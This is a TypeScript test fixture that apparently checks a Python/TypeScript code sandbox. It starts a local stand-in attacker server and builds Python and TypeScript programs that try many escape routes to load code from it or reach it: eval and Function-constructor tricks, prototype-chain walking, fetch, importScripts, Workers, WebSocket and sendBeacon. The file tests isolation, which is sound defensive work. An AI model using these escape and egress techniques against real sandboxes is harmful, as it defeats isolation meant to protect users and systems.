import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/** An attacker's server, which takes and gives whatever it is asked for, and counts. */
export interface Foreign {
  /** Ends in a slash. */
  url: string;
  /** The paths that were asked for. */
  asked: string[];
  close: () => Promise<void>;
}

export async function foreign(): Promise<Foreign> {
  const asked: string[] = [];
  const server: Server = createServer((request, response) => {
    if (request.url !== '/favicon.ico') asked.push(request.url!);
    // Nothing that this server could forbid may be what protects a reader.
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
    response.setHeader('Content-Type', 'text/javascript').end('export default 1;');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    asked,
    close: () => new Promise((done) => (server.close(() => done()), server.closeAllConnections())),
  };
}

/** A Python program that tries to reach a module of another server, in the ways that were found; it always ends by itself. */
export const pythonAttack = (url: string): string => `
import sys, gc

code = "import('${url}python-timer')"
roots = [f.jsproxies.get("js") for f in sys.meta_path if hasattr(f, "jsproxies")]
roots += [sys.modules.get(name) for name in ("js", "pyodide_js", "_pyodide_core", "pyodide.ffi", "pyodide.webloop")]
roots += [o for o in gc.get_objects() if type(o).__name__ == "JsProxy"]
for root in [r for r in roots if r is not None]:
    for way in (
        lambda: root.setTimeout(code, 0),
        lambda: root.setInterval(code, 1000),
        lambda: root.eval("import('${url}python-eval')"),
        lambda: root.Function("return import('${url}python-function')")(),
        lambda: root.fetch("${url}python-fetch"),
        lambda: root.importScripts("${url}python-import-scripts"),
        lambda: root.Worker.new("data:text/javascript," + code),
        lambda: root.scheduleCallback.__proto__.__proto__.constructor("return import('${url}python-constructor')")(),
        lambda: root.constructor.constructor("return import('${url}python-constructor')")(),
    ):
        try:
            way()
        except BaseException:
            pass
try:
    import urllib.request
    urllib.request.urlopen("${url}python-urllib")
except BaseException:
    pass
print("tried")
`;

/** The same in TypeScript, on a thread too. */
export const typeScriptAttack = (url: string): string => `
import { Thread } from 'threading';

export function attempt(where: string) {
  const scope = globalThis as any;
  const code = "import('${url}ts-" + where + "')";
  const ways = [
    () => scope.setTimeout(code, 0),
    () => scope.setInterval(code, 1000),
    () => scope.eval(code),
    () => scope.Function(code)(),
    () => scope.fetch('${url}ts-fetch-' + where),
    () => scope.importScripts('${url}ts-scripts-' + where),
    () => new scope.Worker('data:text/javascript,' + code),
    () => (function () {} as any).constructor(code)(),
    () => (async function () {} as any).constructor(code)(),
    () => (function* () {} as any).constructor(code)().next(),
    () => new scope.WebSocket('ws' + '${url}'.slice(4) + 'ts-socket-' + where),
    () => new scope.EventSource('${url}ts-events-' + where),
    () => scope.navigator.sendBeacon('${url}ts-beacon-' + where),
  ];
  for (const way of ways)
    try {
      way();
    } catch {}
}

export function main() {
  attempt('main');
  const thread = new Thread({ target: attempt, args: ['thread'] });
  thread.start();
  thread.join();
  console.log('tried');
}
`;
